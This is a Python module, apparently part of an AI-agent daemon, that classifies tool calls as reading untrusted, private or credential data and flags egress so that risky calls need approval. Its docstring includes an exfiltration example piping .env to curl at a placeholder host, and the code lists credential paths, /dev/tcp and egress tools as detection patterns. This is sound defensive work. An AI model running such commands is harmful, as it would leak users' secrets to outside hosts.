"""Flow guard: classify tool calls by what they read and whether they send data out.

Pure: no I/O, no database, no daemon state. Sources: FACTS.md §9 "Flow guard" and seed 003
("The flow guard runs on top of these rules ..."); the contracts below extend the FACTS table
with heuristics, each marked where it is defined.

**What is tracked.** A session carries three flags (:class:`FlowFlag`); once set, a flag stays
set (FACTS.md §9):

* ``suspicious``: the session has read text written by people outside the user's control
  (web fetch and search, mail, chat, issue trackers, external MCP connector results);
* ``private``: it has read the user's own data (mail, chat, drive, documents, calendar);
* ``secret``: it has read credential material (``.env``, ``~/.ssh/id_*``, ``~/.aws``, private
  keys, ``.netrc``, ``/proc/*/environ``, a dump of the environment, ...).

**When it asks** (FACTS.md §9 "When it asks"). A call becomes an approval when

1. ``secret`` is set and the call is any egress (read or write), or
2. ``private`` and ``suspicious`` are both set and the call is a write egress.

The call's own reads count, so ``cat .env | curl -d @- https://x`` asks at once.

**Egress.** *Read* egress means only a URL or query leaves (web fetch and search, ``curl URL``,
``git fetch``, ``pip install``). *Write* egress sends data out (mail or message send,
``git push``, ``curl -d``, ``scp`` to a remote, ``ssh``, ``nc``, non-read MCP tools).

**Use.** One :class:`FlowState` per session (children share their root's session)::

    c = classify(tool_id, arguments)
    if mode is FlowGuardMode.ASK and decision is ALLOW:   # never applied to DENY (or ASK)
        reason = state.check(c)      # pure; None = leave the ALLOW alone
        if reason: ASK with reason; an unattended run is refused with unattended_refusal(reason)
    ...
    if state.observe(c):             # after the call ran, or was seen in the vendor's stream
        store sessions.flow_label = state.to_label()

The guard only ever turns ALLOW into ASK; it never relaxes anything. Vault placeholders
(``{{secret:NAME}}``) never set a flag (nothing here treats them as credentials); the vault
exemption (FACTS.md §9 "Vault"; never for ``cli-native:*`` tools) is the caller's decision.
A group-channel session starts ``suspicious``: ``FlowState(flags={FlowFlag.SUSPICIOUS})``.

**Tool ids.** ``cli-native:<Tool>`` (Claude's Read, Grep, Glob, NotebookRead, WebFetch,
WebSearch, Bash, ...; Codex's shell appears as ``cli-native:Bash`` and its web search as
``cli-native:WebSearch``; any other native tool with a ``command``/``cmd`` argument is treated
as a shell), ``cli-native:mcp__<server>__<tool>`` (Claude's name for an MCP tool;
``mcp__octipus__<tool>`` is Octipus's own tool), Octipus tools ``<family>__<action>``
(``shell__run``) and MCP connector tools ``<server>.<tool>`` (``slack.post_message``).

**Limits.** Contracts judge a call and its arguments, never what the tool returns. Shell
commands are parsed, not run: interpreters (``python -c``, ``node -e``), scripts and aliases
are opaque; variable expansion (``echo $TOKEN``) is not tracked; ``bash -c``/``sh -c``/``eval``,
``$(...)``/backticks and a heredoc fed to a shell are parsed recursively up to
:data:`MAX_SHELL_NESTING` levels; ``$(...)`` inside double quotes counts, inside single
quotes it does not.
"""

from __future__ import annotations

import enum
import fnmatch
import re
import shlex
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Final, TypeAlias

from octipusd.policy.rules import CLI_NATIVE_PREFIX

__all__ = [
    "MAX_SHELL_NESTING",
    "REASON_PREFIX",
    "UNATTENDED_PREFIX",
    "Classification",
    "Egress",
    "FlowFlag",
    "FlowGuardMode",
    "FlowState",
    "classify",
    "from_label",
    "is_credential_path",
    "to_label",
    "unattended_refusal",
]

#: Every escalation reason starts with this (FACTS.md §9 "Outcome").
REASON_PREFIX: Final = "flow guard: "
#: An unattended run's refusal line starts with this (FACTS.md §9 "Outcome").
UNATTENDED_PREFIX: Final = "Approval required: "
#: How deep ``bash -c``, ``eval``, ``$(...)`` and shell heredocs are parsed into (levels).
MAX_SHELL_NESTING: Final = 3


def _wordset(text: str) -> frozenset[str]:
    return frozenset(text.split())


class FlowFlag(enum.StrEnum):
    """A session flag (FACTS.md §9 "Session flags"); once set, it stays set."""

    SUSPICIOUS = "suspicious"
    PRIVATE = "private"
    SECRET = "secret"


class Egress(enum.StrEnum):
    """Whether a call can carry session data out.

    ``READ``: only a URL or query leaves (fetch, search, download). ``WRITE``: the call sends
    data (mail, messages, ``git push``, uploads, remote shells). Ordered NONE < READ < WRITE.
    """

    NONE = "none"
    READ = "read"
    WRITE = "write"


class FlowGuardMode(enum.StrEnum):
    """The ``agent.flowGuard`` setting (env ``AGENT_FLOW_GUARD``; FACTS.md §9); ``ask`` is the default."""

    ASK = "ask"
    OFF = "off"


_FLAG_VALUES: Final = frozenset(flag.value for flag in FlowFlag)
_EGRESS_RANK: Final[Mapping[Egress, int]] = {Egress.NONE: 0, Egress.READ: 1, Egress.WRITE: 2}
_FLAG_ADJECTIVE: Final[Mapping[FlowFlag, str]] = {
    FlowFlag.PRIVATE: "private",
    FlowFlag.SUSPICIOUS: "untrusted",
    FlowFlag.SECRET: "credentials",
}


@dataclass(frozen=True)
class Classification:
    """The static contract of one call: what it reads and whether it sends data out.

    Attributes:
        flags: The flags this call sets (FACTS.md §9 "Classification examples").
        egress: Whether the call can carry data out (:class:`Egress`).
        reasons: Short human reasons, in the order found, without duplicates
            (``"cat reads .env (credentials)"``, ``"curl -d sends data out"``).
        tool_id: The classified tool id (named in escalation reasons).
        sources: ``(flag, what set it)`` for each flag in :attr:`flags`: the credential path
            or command for ``secret`` (``".env"``, ``"printenv"``), the tool id otherwise.
    """

    flags: frozenset[FlowFlag] = frozenset()
    egress: Egress = Egress.NONE
    reasons: tuple[str, ...] = ()
    tool_id: str = ""
    sources: tuple[tuple[FlowFlag, str], ...] = ()

    def source(self, flag: FlowFlag) -> str | None:
        """Return what set ``flag`` in this call, or None if the call does not set it."""
        for candidate, source in self.sources:
            if candidate is flag:
                return source
        return None


class _Findings:
    """Mutable accumulator behind one :func:`classify` call."""

    def __init__(self) -> None:
        self.flags: dict[FlowFlag, str] = {}
        self.egress = Egress.NONE
        self.reasons: list[str] = []

    def taint(self, flag: FlowFlag, source: str, reason: str) -> None:
        self.flags.setdefault(flag, source)
        self._reason(reason)

    def send(self, egress: Egress, reason: str) -> None:
        if _EGRESS_RANK[egress] > _EGRESS_RANK[self.egress]:
            self.egress = egress
        self._reason(reason)

    def _reason(self, reason: str) -> None:
        if reason not in self.reasons:
            self.reasons.append(reason)

    def result(self, tool_id: str) -> Classification:
        return Classification(
            flags=frozenset(self.flags),
            egress=self.egress,
            reasons=tuple(self.reasons),
            tool_id=tool_id,
            sources=tuple(self.flags.items()),
        )


# ------------------------------------------------------------------------ the session state


@dataclass
class FlowState:
    """The flow-guard label of one session, plus where each flag came from.

    Attributes:
        flags: The flags set so far; only :meth:`observe` adds to it, nothing removes.
        sources: What first set each flag (in memory only: a state restored with
            :meth:`from_label` has none, and its reasons then omit the detail).
    """

    flags: set[FlowFlag] = field(default_factory=set)
    sources: dict[FlowFlag, str] = field(default_factory=dict)

    @classmethod
    def from_label(cls, text: str | None) -> FlowState:
        """Restore a state from ``sessions.flow_label`` (see the module's :func:`from_label`)."""
        return cls(flags=from_label(text))

    def to_label(self) -> str:
        """Return the ``sessions.flow_label`` text of this state (see the module's :func:`to_label`)."""
        return to_label(self.flags)

    def observe(self, classification: Classification) -> set[FlowFlag]:
        """Add the flags a call set; call it after the call ran (or was seen in a vendor stream).

        Args:
            classification: The call's :func:`classify` result.

        Returns:
            The flags that were not set before (empty when nothing changed, so the caller
            persists the label only when this is non-empty).
        """
        gained = set(classification.flags) - self.flags
        self.flags |= gained
        for flag in gained:
            source = classification.source(flag)
            if source:
                self.sources.setdefault(flag, source)
        return gained

    def check(self, classification: Classification) -> str | None:
        """Return why this call must become an approval, or None; never changes the state.

        Rules (FACTS.md §9 "When it asks"), judged on the session's flags plus the flags this
        call sets itself: (1) ``secret`` and any egress; (2) ``private`` and ``suspicious`` and
        a write egress. The caller applies the result only to an ALLOW decision: the guard
        turns ALLOW into ASK, never changes a DENY, and never relaxes anything.

        Args:
            classification: The call's :func:`classify` result.

        Returns:
            A reason starting with :data:`REASON_PREFIX`, e.g. ``"flow guard: this session has
            read credentials (.env), and cli-native:WebFetch can send data out in a URL or
            query"``; None when the call may go ahead.
        """
        egress = classification.egress
        if egress is Egress.NONE:
            return None
        flags = self.flags | classification.flags
        tool = classification.tool_id or "this call"
        sends = "sends data out" if egress is Egress.WRITE else "can send data out in a URL or query"
        if FlowFlag.SECRET in flags:
            what = self._source(FlowFlag.SECRET, classification)
            return f"{REASON_PREFIX}this session has read credentials{what}, and {tool} {sends}"
        if egress is Egress.WRITE and {FlowFlag.PRIVATE, FlowFlag.SUSPICIOUS} <= flags:
            private = self._source(FlowFlag.PRIVATE, classification)
            untrusted = self._source(FlowFlag.SUSPICIOUS, classification)
            return (
                f"{REASON_PREFIX}this session has mixed private data{private} with untrusted "
                f"content{untrusted}, and {tool} {sends}"
            )
        return None

    def _source(self, flag: FlowFlag, classification: Classification) -> str:
        source = self.sources.get(flag) or classification.source(flag)
        return f" ({source})" if source else ""


def to_label(flags: Iterable[FlowFlag]) -> str:
    """Return the ``sessions.flow_label`` text: flag values sorted and comma-separated.

    Args:
        flags: Any iterable of flags (duplicates are fine).

    Returns:
        E.g. ``"private,secret"``; ``""`` for no flags.
    """
    return ",".join(sorted({FlowFlag(flag).value for flag in flags}))


def from_label(text: str | None) -> set[FlowFlag]:
    """Parse a ``sessions.flow_label`` text (the inverse of :func:`to_label`).

    Args:
        text: Comma-separated flag values; surrounding spaces and case are ignored, and so
            are unknown words; None or ``""`` is no flags.

    Returns:
        The set of flags named.
    """
    flags: set[FlowFlag] = set()
    for word in (text or "").split(","):
        value = word.strip().lower()
        if value in _FLAG_VALUES:
            flags.add(FlowFlag(value))
    return flags


def unattended_refusal(reason: str) -> str:
    """Return the line an unattended run gets instead of an approval (FACTS.md §9 "Outcome").

    Args:
        reason: A :meth:`FlowState.check` reason (``"flow guard: ..."``).

    Returns:
        ``"Approval required: " + reason``.
    """
    return UNATTENDED_PREFIX + reason


# ------------------------------------------------------------------------ credential paths

#: ``.env.<suffix>`` files that are templates, not secrets (FACTS.md §9: ``.env.example``).
_ENV_TEMPLATE_SUFFIXES: Final = _wordset("example sample template dist")
#: Files under ``.ssh/`` that hold no secret (any other file there is treated as a key).
_SSH_PUBLIC_FILES: Final = _wordset("known_hosts known_hosts.old authorized_keys authorized_keys2 config")
_SSH_KEY_NAME: Final = re.compile(r"^id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?$")
#: Credential files by name, anywhere (``.credentials.json``: ``~/.claude/.credentials.json``).
_CREDENTIAL_FILES: Final = _wordset(
    ".netrc _netrc .npmrc .pypirc .git-credentials .pgpass .vault-token credentials.json"
    " .credentials.json .claude.json kubeconfig"
)
_CREDENTIAL_EXTENSIONS: Final = (".pem", ".key", ".p12", ".pfx")
#: Directories whose every file is credential material (consecutive path segments).
_CREDENTIAL_DIRS: Final[tuple[tuple[str, ...], ...]] = (
    (".aws",),
    (".azure",),
    (".config", "gcloud"),
    (".config", "gh"),
    (".kube",),
    (".gnupg",),
    (".password-store",),
    ("library", "keychains"),
)
#: Credential files named by their last path segments.
_CREDENTIAL_TAILS: Final[tuple[tuple[str, ...], ...]] = ((".docker", "config.json"), (".codex", "auth.json"))
#: Names a wildcard pattern is tried against (``*.pem``, ``.env*``, ``id_*``).
_CREDENTIAL_SAMPLES: Final = (
    ".env",
    ".env.local",
    ".env.production",
    "id_rsa",
    "id_ed25519",
    "server.pem",
    "server.key",
    "client.p12",
    "client.pfx",
    *sorted(_CREDENTIAL_FILES),
)
_GLOB_CHARS: Final = re.compile(r"[*?\[\]]")


def is_credential_path(path: str) -> bool:
    """Tell whether reading ``path`` exposes credential material (FACTS.md §9 "read .env").

    Matching is on path segments, case-insensitive; ``~`` and ``$HOME`` need no expansion.
    Credentials: ``.env`` and ``.env.<x>`` (not ``.env.example``/``.sample``/``.template``/
    ``.dist``); ``id_rsa``/``id_dsa``/``id_ecdsa``/``id_ed25519``; any file under ``.ssh/``
    except ``*.pub``, ``known_hosts``, ``authorized_keys`` and ``config``; ``*.pem``, ``*.key``,
    ``*.p12``, ``*.pfx``; ``.netrc``, ``.npmrc``, ``.pypirc``, ``.git-credentials``, ``.pgpass``,
    ``.vault-token``, ``credentials.json``, ``.credentials.json``, ``.claude.json``,
    ``kubeconfig``; anything under ``.aws/``, ``.azure/``, ``.config/gcloud/``, ``.config/gh/``,
    ``.kube/``, ``.gnupg/``, ``.password-store/``, ``Library/Keychains/``;
    ``.docker/config.json``, ``.codex/auth.json``, ``/proc/<pid>/environ``. A wildcard pattern
    (``**/.env*``, ``*.pem``) counts when it can match such a name and its last segment has at
    least two literal characters (so ``*`` and ``*.*`` do not).

    Args:
        path: A file path or glob pattern, as written in the call.

    Returns:
        True when the path (or a file the pattern can match) is credential material.
    """
    text = path.strip().replace("\\", "/")
    parts = [part.lower() for part in text.split("/") if part not in ("", ".")]
    if not parts:
        return False
    if _credential_parts(parts):
        return True
    base = parts[-1]
    if not _GLOB_CHARS.search(base) or len(_GLOB_CHARS.sub("", base)) < 2:
        return False
    return any(fnmatch.fnmatchcase(sample, base) for sample in _CREDENTIAL_SAMPLES)


def _credential_parts(parts: Sequence[str]) -> bool:
    base = parts[-1]
    if base == ".env":
        return True
    if base.startswith(".env."):
        suffixes = (_GLOB_CHARS.sub("", suffix) for suffix in base.split(".")[2:])
        return not any(suffix in _ENV_TEMPLATE_SUFFIXES for suffix in suffixes)
    if _SSH_KEY_NAME.match(base) or base in _CREDENTIAL_FILES or base.endswith(_CREDENTIAL_EXTENSIONS):
        return True
    if ".ssh" in parts:
        inside = parts[len(parts) - parts[::-1].index(".ssh") :]
        if not inside:
            return True  # the directory itself (grep -r ~/.ssh)
        return not (inside[-1].endswith(".pub") or inside[-1] in _SSH_PUBLIC_FILES)
    if len(parts) >= 3 and base == "environ" and parts[-3] == "proc":
        return True
    for sequence in _CREDENTIAL_DIRS:
        width = len(sequence)
        if any(tuple(parts[i : i + width]) == sequence for i in range(len(parts) - width + 1)):
            return True
    return any(tuple(parts[-len(tail) :]) == tail for tail in _CREDENTIAL_TAILS)


# ------------------------------------------------------------------------ classify

#: Vendor-native web tools: untrusted content, and the URL or query leaves (FACTS.md §9).
_NATIVE_WEB: Final = _wordset("WebFetch WebSearch web_search web_fetch")
#: Vendor-native readers and the arguments that name what they read.
_NATIVE_PATH_ARGS: Final[Mapping[str, tuple[str, ...]]] = {
    "Read": ("file_path", "path"),
    "NotebookRead": ("notebook_path", "file_path", "path"),
    "Grep": ("path", "glob"),
    "Glob": ("pattern", "path"),
}
#: Vendor-native tools whose ``command`` argument is not a shell command.
_NATIVE_NOT_SHELL: Final = _wordset("SlashCommand Skill Task Agent")
#: The MCP server name of Octipus's own bridge (``mcp__octipus__<tool>``).
_OCTIPUS_SERVER: Final = "octipus"
#: Octipus tool families whose ``command`` argument is a shell command.
_SHELL_FAMILIES: Final = _wordset("shell docker")
#: Argument names that hold a path a reading connector tool reads.
_PATH_ARGS: Final = ("path", "file_path", "filePath", "paths", "file", "filename")
_URL_ARGS: Final = ("url", "uri", "href")


def classify(tool_id: str, arguments: Mapping[str, Any] | None) -> Classification:
    """Return the static contract of one call (FACTS.md §9 "Classification examples").

    Args:
        tool_id: ``cli-native:<Tool>``, ``cli-native:mcp__<server>__<tool>``, an Octipus tool id
            ``<family>__<action>`` or an MCP connector tool ``<server>.<tool>``.
        arguments: The call's arguments (``{"command": ...}`` for shells, ``{"file_path": ...}``
            for Read, ...); None or a non-mapping counts as empty.

    Returns:
        The flags the call sets, its egress and the reasons. A tool nothing here recognises
        classifies as nothing when it is Octipus's own, and, when it is an external MCP
        connector, as untrusted with a write egress unless its name reads (``get``, ``list``,
        ``search``, ``read``, ...).
    """
    found = _Findings()
    args: Mapping[str, Any] = arguments if isinstance(arguments, Mapping) else {}
    if tool_id.startswith(CLI_NATIVE_PREFIX):
        _classify_native(tool_id, tool_id.removeprefix(CLI_NATIVE_PREFIX), args, found)
    else:
        _classify_named(tool_id, tool_id, args, found)
    return found.result(tool_id)


def _classify_native(tool_id: str, name: str, args: Mapping[str, Any], found: _Findings) -> None:
    if name.startswith("mcp__"):
        _classify_named(tool_id, name, args, found)
    elif name in _NATIVE_WEB:
        found.taint(FlowFlag.SUSPICIOUS, tool_id, f"{tool_id} reads web content (untrusted)")
        found.send(Egress.READ, f"{tool_id} sends a URL or query out")
    elif name in _NATIVE_PATH_ARGS:
        for key in _NATIVE_PATH_ARGS[name]:
            _check_path(tool_id, args.get(key), found)
    elif name not in _NATIVE_NOT_SHELL:
        command = _command_text(args)
        if command is not None:
            _analyze_shell(command, found, 0)


def _classify_named(tool_id: str, name: str, args: Mapping[str, Any], found: _Findings) -> None:
    """Classify an Octipus tool (``family__action``) or an MCP tool (``server.tool``, ``mcp__s__t``)."""
    if name.startswith("mcp__"):
        server, _, tool = name.removeprefix("mcp__").partition("__")
        if server == _OCTIPUS_SERVER:
            _classify_named(tool_id, tool, args, found)
        else:
            _classify_connector(tool_id, server, tool, args, found, external=True)
    elif "." in name:
        server, _, tool = name.partition(".")
        _classify_connector(tool_id, server, tool, args, found, external=True)
    else:
        family, _, action = name.partition("__")
        command = _command_text(args)
        if family in _SHELL_FAMILIES and command is not None:
            _analyze_shell(command, found, 0)
        else:
            _classify_connector(tool_id, family, action, args, found, external=False)


def _check_path(tool_id: str, value: Any, found: _Findings) -> None:
    values = value if isinstance(value, list | tuple) else [value]
    for item in values:
        if isinstance(item, str) and is_credential_path(item):
            path = item.strip()
            found.taint(FlowFlag.SECRET, path, f"{tool_id} reads {path} (credentials)")


def _command_text(args: Mapping[str, Any]) -> str | None:
    command = args.get("command", args.get("cmd"))
    if isinstance(command, str):
        return command
    if isinstance(command, list | tuple) and command and all(isinstance(word, str) for word in command):
        return shlex.join(command)  # Codex: ["bash", "-lc", "..."]
    return None


# -------------------------------------------------------------- connectors (by name)


@dataclass(frozen=True)
class _Category:
    """What reading from, and acting on, one kind of connector means.

    ``words`` name the kind in a server/family or tool/action name; ``namespace_words`` only
    in a server/family name (``docs.search``, but not ``context7.get_library_docs``).
    """

    words: frozenset[str]
    what: str
    read_flags: frozenset[FlowFlag]
    read_egress: Egress
    write_flags: frozenset[FlowFlag] = frozenset()
    private_store: bool = False
    namespace_words: frozenset[str] = frozenset()


#: Connector kinds, in priority order, recognised from the server/family name first and then
#: from the tool/action name. FACTS.md §9: email_read -> private + suspicious; drive_read ->
#: private; mail/message send -> write; web fetch -> suspicious + read egress. Heuristics (the
#: original's docs/FLOW-GUARD.md lists these sources): chat reads like mail; issue and review
#: text is untrusted; a browser action that is not a read may submit a form (write).
_CATEGORIES: Final[tuple[_Category, ...]] = (
    _Category(
        _wordset("mail email emails gmail outlook inbox imap smtp mailbox"),
        "mail",
        frozenset({FlowFlag.PRIVATE, FlowFlag.SUSPICIOUS}),
        Egress.NONE,
    ),
    _Category(
        _wordset("slack discord telegram whatsapp mattermost messaging chat sms message messages"),
        "chat messages",
        frozenset({FlowFlag.PRIVATE, FlowFlag.SUSPICIOUS}),
        Egress.NONE,
    ),
    _Category(
        _wordset(
            "drive gdrive googledrive onedrive dropbox sharepoint gdocs sheets calendar gcal contacts notion"
        ),
        "the user's documents",
        frozenset({FlowFlag.PRIVATE}),
        Egress.NONE,
        private_store=True,
        namespace_words=_wordset("docs data"),
    ),
    _Category(
        _wordset("github gitlab bitbucket atlassian jira confluence linear"),
        "issue and review text",
        frozenset({FlowFlag.SUSPICIOUS}),
        Egress.NONE,
    ),
    _Category(
        _wordset("web websearch webfetch browser browse navigate scrape crawl http url"),
        "web content",
        frozenset({FlowFlag.SUSPICIOUS}),
        Egress.READ,
        write_flags=frozenset({FlowFlag.SUSPICIOUS}),
    ),
)
_WEB: Final = _CATEGORIES[-1]

#: Name words that make a tool a read (FACTS.md §9 names ``email_read`` and ``drive_read``).
_READ_VERBS: Final = _wordset(
    "get list search read fetch query find describe lookup view show count retrieve history"
    " browse navigate extract scrape crawl"
)
#: Name words that make a tool act; they win over read verbs (``fetch_and_send``).
_WRITE_VERBS: Final = _wordset(
    "send post reply forward create update delete remove upload share publish push write edit"
    " modify add set put patch comment invite move merge close archive label react schedule"
    " submit execute run call trigger click type fill press evaluate insert append draft approve"
    " assign transfer"
)


def _words(name: str) -> tuple[str, ...]:
    """Split ``getEmails``, ``email_read``, ``google-workspace`` into lower-case words."""
    spaced = re.sub(r"(?<=[a-z0-9])(?=[A-Z])", "_", name)
    return tuple(word for word in re.split(r"[^A-Za-z0-9]+", spaced.lower()) if word)


def _category(words: Iterable[str], *, namespace: bool) -> _Category | None:
    present = set(words)
    for category in _CATEGORIES:
        if category.words & present or (namespace and category.namespace_words & present):
            return category
    return None


def _has_web_url(args: Mapping[str, Any]) -> bool:
    for key in _URL_ARGS:
        value = args.get(key)
        if isinstance(value, str) and value.lower().startswith(("http://", "https://")):
            return True
    return False


def _classify_connector(
    tool_id: str, namespace: str, action: str, args: Mapping[str, Any], found: _Findings, *, external: bool
) -> None:
    """Classify a non-shell tool by the words of its name (and a URL argument)."""
    namespace_words, action_words = _words(namespace), _words(action)
    verbs = set(action_words or namespace_words)
    reading = bool(verbs & _READ_VERBS) and not verbs & _WRITE_VERBS
    category = (
        _category(namespace_words, namespace=True)
        or _category(action_words, namespace=False)
        or (_WEB if _has_web_url(args) else None)
    )
    if category is not None:
        flags = category.read_flags if reading else category.write_flags
        egress = category.read_egress if reading else Egress.WRITE
        detail = ", ".join(_FLAG_ADJECTIVE[flag] for flag in _FLAG_ADJECTIVE if flag in flags)
        for flag in flags:
            found.taint(flag, tool_id, f"{tool_id} reads {category.what} ({detail})")
        if egress is Egress.READ:
            found.send(egress, f"{tool_id} sends a URL or query out")
        elif egress is Egress.WRITE:
            found.send(egress, f"{tool_id} sends data out")
    if reading:
        for key in _PATH_ARGS:
            _check_path(tool_id, args.get(key), found)
    if external and not (category is not None and category.private_store):
        # FLOW-GUARD.md: external MCP results are untrusted; non-read MCP tools are write egress.
        if FlowFlag.SUSPICIOUS not in found.flags:
            found.taint(
                FlowFlag.SUSPICIOUS, tool_id, f"{tool_id} returns an external connector's result (untrusted)"
            )
        if category is None and not reading:
            found.send(Egress.WRITE, f"{tool_id} may change or send data (not a read)")


# ------------------------------------------------------------------------ shell: parsing

_OPERATOR_CHARS: Final = ";&|()<>\n"
#: Operator characters inside quotes (or escaped) are swapped for private-use characters
#: before shlex runs, so that a token made of operator characters is always an operator.
_PROTECT: Final = {ord(char): chr(0xE000 + i) for i, char in enumerate(_OPERATOR_CHARS)}
_UNPROTECT: Final = {ord(chr(0xE000 + i)): char for i, char in enumerate(_OPERATOR_CHARS)}
#: Stands for a ``$(...)`` or backtick substitution in the text handed to shlex.
_SUBSTITUTION_WORD: Final = "\ue0f0subst"
#: ``<< <this><n>`` stands for the n-th heredoc body.
_HEREDOC_WORD: Final = "\ue0f1heredoc"
_OPERATOR: Final = re.compile(r"&>>|&>|<<<|<<|>>|<>|>&|<&|>\||&&|\|\||\|&|;;|[;&|()<>\n]")
_FALLBACK_TOKEN: Final = re.compile(r"&&|\|\||[;&|()\n]|[<>]+|[^\s;&|()<>]+")
_REDIRECTS: Final = frozenset({"<", ">", ">>", "<<", "<<<", "<>", ">&", "<&", ">|", "&>", "&>>"})
_INPUT_REDIRECTS: Final = frozenset({"<", "<>", "<&"})
_OUTPUT_REDIRECTS: Final = frozenset({">", ">>", ">|", "&>", "&>>", "<>", ">&"})
_NETWORK_DEVICES: Final = ("/dev/tcp/", "/dev/udp/")


@dataclass
class _Prepared:
    """A command with comments removed and substitutions and heredoc bodies taken out."""

    text: str
    substitutions: list[str]
    heredocs: list[str]


@dataclass
class _Simple:
    """One simple command: its words and redirections."""

    words: list[str] = field(default_factory=list)
    inputs: list[str] = field(default_factory=list)
    outputs: list[str] = field(default_factory=list)
    stdin_scripts: list[str] = field(default_factory=list)

    def empty(self) -> bool:
        return not (self.words or self.inputs or self.outputs or self.stdin_scripts)


def _prepare(command: str) -> _Prepared:
    """Scan ``command`` once, quoting as a POSIX shell does.

    Removes comments and line continuations, takes out ``$(...)``/backtick bodies (not inside
    single quotes) and heredoc bodies, and protects quoted or escaped operator characters.
    """
    out: list[str] = []
    substitutions: list[str] = []
    heredocs: list[str] = []
    pending: list[tuple[str, bool]] = []
    quote = ""
    word_start = True
    i, n = 0, len(command)
    while i < n:
        char = command[i]
        if quote == "'":
            quote = "" if char == "'" else quote
            out.append(char.translate(_PROTECT))
            i += 1
            continue
        if char == "\\":
            following = command[i + 1 : i + 2]
            if following != "\n":  # a backslash-newline is a line continuation
                out.append(char + following.translate(_PROTECT))
                word_start = False
            i += 2
            continue
        if command.startswith("$(", i) and not command.startswith("$((", i):
            end = _closing_paren(command, i + 2)
            substitutions.append(command[i + 2 : end])
            out.append(_SUBSTITUTION_WORD)
            i, word_start = end + 1, False
            continue
        if char == "`":
            end = _closing_backtick(command, i + 1)
            substitutions.append(command[i + 1 : end])
            out.append(_SUBSTITUTION_WORD)
            i, word_start = end + 1, False
            continue
        if quote == '"':
            quote = "" if char == '"' else quote
            out.append(char.translate(_PROTECT))
            i += 1
            continue
        if char == "#" and word_start:
            newline = command.find("\n", i)
            i = n if newline < 0 else newline
            continue
        if command.startswith("<<<", i):
            out.append("<<<")
            i += 3
            continue
        if command.startswith("<<", i):
            delimiter, strip_tabs, after = _heredoc_delimiter(command, i + 2)
            if delimiter:
                out.append(f"<< {_HEREDOC_WORD}{len(heredocs) + len(pending)} ")
                pending.append((delimiter, strip_tabs))
                i, word_start = after, False
                continue
        if char == "\n" and pending:
            out.append("\n")
            i += 1
            for delimiter, strip_tabs in pending:
                body, i = _heredoc_body(command, i, delimiter, strip_tabs)
                heredocs.append(body)
            pending.clear()
            word_start = True
            continue
        if char in "'\"":
            quote = char
        out.append(char)
        word_start = char in " \t\r" or char in _OPERATOR_CHARS
        i += 1
    heredocs.extend("" for _ in pending)
    return _Prepared("".join(out), substitutions, heredocs)


def _closing_paren(text: str, start: int) -> int:
    """Index of the ``)`` closing a ``$(`` whose body starts at ``start`` (``len(text)`` if none)."""
    depth, quote, i = 1, "", start
    while i < len(text):
        char = text[i]
        if quote:
            if char == "\\" and quote == '"':
                i += 1
            elif char == quote:
                quote = ""
        elif char == "\\":
            i += 1
        elif char in "'\"":
            quote = char
        elif char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return len(text)


def _closing_backtick(text: str, start: int) -> int:
    i = start
    while i < len(text):
        if text[i] == "\\":
            i += 2
        elif text[i] == "`":
            return i
        else:
            i += 1
    return len(text)


def _heredoc_delimiter(text: str, start: int) -> tuple[str, bool, int]:
    """Read the delimiter after ``<<``: ``(delimiter, strip leading tabs, index after it)``."""
    i, strip_tabs = start, False
    if text.startswith("-", i):
        strip_tabs, i = True, i + 1
    while i < len(text) and text[i] in " \t":
        i += 1
    parts: list[str] = []
    while i < len(text) and text[i] not in " \t\r" and text[i] not in _OPERATOR_CHARS:
        char = text[i]
        if char in "'\"":
            close = text.find(char, i + 1)
            close = len(text) if close < 0 else close
            parts.append(text[i + 1 : close])
            i = close + 1
        elif char == "\\":
            parts.append(text[i + 1 : i + 2])
            i += 2
        else:
            parts.append(char)
            i += 1
    return "".join(parts), strip_tabs, i


def _heredoc_body(text: str, start: int, delimiter: str, strip_tabs: bool) -> tuple[str, int]:
    """Read heredoc lines from ``start`` up to the delimiter line: ``(body, index after it)``."""
    lines: list[str] = []
    i = start
    while i < len(text):
        newline = text.find("\n", i)
        end = len(text) if newline < 0 else newline
        line = text[i:end]
        i = end + 1
        if (line.lstrip("\t") if strip_tabs else line) == delimiter:
            return "\n".join(lines), i
        lines.append(line)
    return "\n".join(lines), len(text)


def _is_operator(token: str) -> bool:
    return bool(token) and all(char in _OPERATOR_CHARS for char in token)


def _tokens(text: str) -> list[str]:
    """Split with shlex (POSIX rules, operators as tokens); on a parse error, split on blanks."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=_OPERATOR_CHARS)
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = ""
    try:
        return list(lexer)
    except ValueError:  # an unclosed quote: the shell would refuse it, but judge the words anyway
        plain = text.translate(_UNPROTECT)
        return [
            token if _is_operator(token) else token.replace("'", "").replace('"', "")
            for token in _FALLBACK_TOKEN.findall(plain)
        ]


def _simple_commands(prepared: _Prepared) -> list[_Simple]:
    """Split the prepared text into simple commands (at ``;``, ``&``, ``|``, ``&&``, ``||``,
    newlines and parentheses) and attach each redirection to its command."""
    commands: list[_Simple] = []
    current = _Simple()
    redirect: str | None = None
    for token in _tokens(prepared.text):
        if _is_operator(token):
            for operator in _OPERATOR.findall(token):
                if operator in _REDIRECTS:
                    if current.words and current.words[-1].isdigit():
                        current.words.pop()  # the fd of `2>file`
                    redirect = operator
                else:
                    if not current.empty():
                        commands.append(current)
                    current, redirect = _Simple(), None
            continue
        word = token.translate(_UNPROTECT)
        if redirect is None:
            current.words.append(word)
            continue
        if redirect == "<<":
            index = word.removeprefix(_HEREDOC_WORD)
            if word.startswith(_HEREDOC_WORD) and index.isdigit() and int(index) < len(prepared.heredocs):
                current.stdin_scripts.append(prepared.heredocs[int(index)])
        elif redirect == "<<<":
            current.stdin_scripts.append(word)
        else:
            if redirect in _INPUT_REDIRECTS:
                current.inputs.append(word)
            if redirect in _OUTPUT_REDIRECTS:
                current.outputs.append(word)
        redirect = None
    if not current.empty():
        commands.append(current)
    return commands


# ------------------------------------------------------------------------ shell: analysis


@dataclass(frozen=True)
class _Invocation:
    """One command to judge: its name (basename, lower case), arguments and context."""

    name: str
    args: tuple[str, ...]
    stdin_scripts: tuple[str, ...]
    found: _Findings
    depth: int

    def write(self, what: str) -> None:
        self.found.send(Egress.WRITE, f"{what} sends data out")

    def read(self, what: str) -> None:
        self.found.send(Egress.READ, f"{what} fetches from the network")

